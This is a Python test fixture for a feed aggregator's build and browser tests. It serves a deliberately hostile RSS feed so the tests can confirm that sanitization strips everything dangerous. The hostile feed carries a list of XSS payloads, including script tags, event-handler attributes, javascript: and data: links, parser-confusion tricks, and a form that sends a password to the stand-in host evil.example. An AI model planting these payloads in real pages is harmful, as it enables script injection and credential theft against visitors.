"""Fixture material for the "Around the web" build and browser tests: a hostile feed, a small site
with a topic vocabulary, and the feed server routes that serve them (tests/feedserver.py).

Every hostile payload tries to set `window.__pwned` (or load something from evil.example), so a
test can prove that none of them runs or survives on the built page."""

from __future__ import annotations

from pathlib import Path
from xml.sax.saxutils import escape

import harness
from feedserver import FeedServer, feed, status
from harness import FEEDS_CORPUS

CORPUS = FEEDS_CORPUS
NOW = "2026-11-22T12:00:00+00:00"

PWN = "window.__pwned=1"
HOSTILE_TITLES = [
    f"<script>{PWN}</script>Pricing power in a downturn",
    f'Discounting <img src=x onerror="{PWN}"> is a habit',
    f'<a href="javascript:{PWN}">Cold calls</a> that open doors',
    f"<svg onload={PWN}></svg>Negotiation &amp; pricing: the trade table",
    f"<iframe srcdoc='<script>{PWN}</script>'></iframe>Sales leadership & forecasting notes",
]
HOSTILE_CONTENT = (
    f'<p>Pricing is a conversation about value. <a href="/pricing/guide/">Our pricing guide</a> says so.</p>'
    f'<script>{PWN}</script><script src="https://evil.example/x.js"></script>'
    f'<p onclick="{PWN}" style="position:fixed;top:0">Click me <a href="javascript:{PWN}">here</a>'
    f' or <a href="data:text/html,&lt;script&gt;{PWN}&lt;/script&gt;">there</a>'
    f' or <a href=" JaVa&#x09;ScRiPt:{PWN}">everywhere</a>.</p>'
    f'<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="&lt;script&gt;{PWN}&lt;/script&gt;"></iframe>'
    f'<form action="https://evil.example/steal"><input name="password" autofocus onfocus="{PWN}"><button>Go</button></form>'
    f"<style>body {{ display: none }}</style><svg><script>{PWN}</script></svg>"
    f'<img src="https://evil.example/pixel.gif" width="1" height="1">'
    f'<img src=x onerror="{PWN}"><object data="https://evil.example/x.swf"></object>'
    f'<embed src="https://evil.example/x.swf"><math><mtext><table><mglyph><style><img src=x onerror={PWN}>'
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>'
    f"<p>The rest of the post is about pricing and discounting in enterprise deals.</p>"
)


def hostile_rss(base: str) -> bytes:
    """RSS with hostile titles, content, author and categories; relative links; one entry without a
    date and one dated in the future."""
    items = []
    for n, title in enumerate(HOSTILE_TITLES):
        date = "" if n == 3 else (
            "<pubDate>Mon, 01 Jan 2035 10:00:00 GMT</pubDate>" if n == 4 else f"<pubDate>Fri, {20 - n:02d} Nov 2026 09:00:00 GMT</pubDate>"
        )  # fmt: skip
        items.append(
            "<item>"
            f"<title>{escape(title)}</title>"
            f"<link>/posts/{n}/</link>"
            f'<guid isPermaLink="false">hostile-{n}</guid>'
            f"{date}"
            f"<author>evil@example.com (&lt;script&gt;{PWN}&lt;/script&gt;Eve Example)</author>"
            f"<category>Pricing</category><category>&lt;script&gt;{PWN}&lt;/script&gt;</category>"
            f"<description>{escape(HOSTILE_CONTENT)}</description>"
            "</item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Pricing &lt;b&gt;Weekly&lt;/b&gt;</title><link>{escape(base)}/</link>"
        f"<description>x</description>{''.join(items)}</channel></rss>"
    ).encode()


def cold_calling_rss() -> bytes:
    return (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Phone Craft</title><link>https://phone.example/</link>'
        b"<item><title>The first ten seconds of a call</title><link>https://phone.example/first-ten-seconds</link>"
        b"<guid>https://phone.example/first-ten-seconds</guid><pubDate>Wed, 18 Nov 2026 08:00:00 GMT</pubDate>"
        b"<description>&lt;p&gt;Openers that earn the next minute.&lt;/p&gt;</description></item>"
        b"<item><title>Voicemail is not dead</title><link>https://phone.example/voicemail?utm_source=rss</link>"
        b"<pubDate>Tue, 17 Nov 2026 08:00:00 GMT</pubDate><description>Leave one, keep it short.</description></item>"
        b"</channel></rss>"
    )


VOCABULARY = {
    "prospecting": {"title": "Prospecting"},
    "cold-calling": {"title": "Cold calling", "parent": "prospecting", "synonyms": ["cold calls"]},
    "pricing": {"title": "Pricing", "synonyms": ["discounting"]},
    "negotiation": {"title": "Negotiation"},
}

POSTS = {
    "rants/discounts.md": harness.article(
        "Stop discounting", "2026-10-01", "rant", "topics: [pricing]"
    ),
    "rants/calls.md": harness.article(
        "Cold calls still work", "2026-10-05", "rant", "topics: [cold-calling]"
    ),
    "rants/trade.md": harness.article(
        "Trade, do not concede", "2026-10-09", "rant", "topics: [negotiation, pricing]"
    ),
    "about.md": "---\ntitle: About\ntype: page\n---\n\nAbout me.\n",
}


def opml(cold_url: str) -> str:
    return (
        '<?xml version="1.0"?><opml version="2.0"><head><title>My reader</title></head><body>'
        '<outline text="Cold calling">'
        f'<outline type="rss" text="Phone Craft" xmlUrl="{escape(cold_url)}" htmlUrl="https://phone.example/"/>'
        "</outline></body></opml>"
    )


def serve_sources(server: FeedServer) -> dict[str, str]:
    """Routes for the fixture sources; returns their URLs by short name."""
    return {
        "hostile": server.route("/hostile.xml", feed(hostile_rss(server.base))),
        "cold": server.route("/cold.xml", feed(cold_calling_rss(), etag='"c1"')),
        "fireball": server.route(
            "/fireball.xml",
            feed(
                (CORPUS / "atom-daringfireball-xmlbase-per-entry.xml").read_bytes(),
                "application/atom+xml",
            ),
        ),
        "json": server.route(
            "/inessential.json",
            feed((CORPUS / "jsonfeed10-inessential.json").read_bytes(), "application/feed+json"),
        ),
        "broken": server.route(
            "/broken.xml",
            feed((CORPUS / "rss-broken-prolog-unbound-prefixes-unparseable.xml").read_bytes()),
        ),
        "gone": server.route("/gone.xml", status(404)),
    }


def site(root: Path, urls: dict[str, str], **aggregator) -> Path:
    """The fixture site: three articles on four topics, the sources (and an OPML import)."""
    (root).mkdir(parents=True, exist_ok=True)
    (root / "reader.opml").write_text(opml(urls["cold"]), encoding="utf-8")
    sources = [
        {
            "name": 'Pricing <b>"Weekly"</b> & Co',
            "feed": urls["hostile"],
            "site": "https://pricing.example/",
            "max_age_days": None,
        },
        {"name": "Daring Fireball", "feed": urls["fireball"], "max_items": 3, "max_age_days": None},
        {
            "name": "Inessential",
            "feed": urls["json"],
            "max_items": 2,
            "max_age_days": None,
            "topics": ["negotiation"],
        },
        {"name": "Broken Blog", "feed": urls["broken"]},
        {"name": "Gone Blog", "feed": urls["gone"]},
    ]
    options = {
        "sources": sources,
        "opml": "reader.opml",
        "page_size": 6,
        "cache_dir": "cache",
        **aggregator,
    }
    return harness.write_site(
        root,
        POSTS,
        plugin={"topics": {"vocabulary": VOCABULARY}, "aggregator": options},
        mkdocs={"theme": {"name": "material", "font": False}},
    )
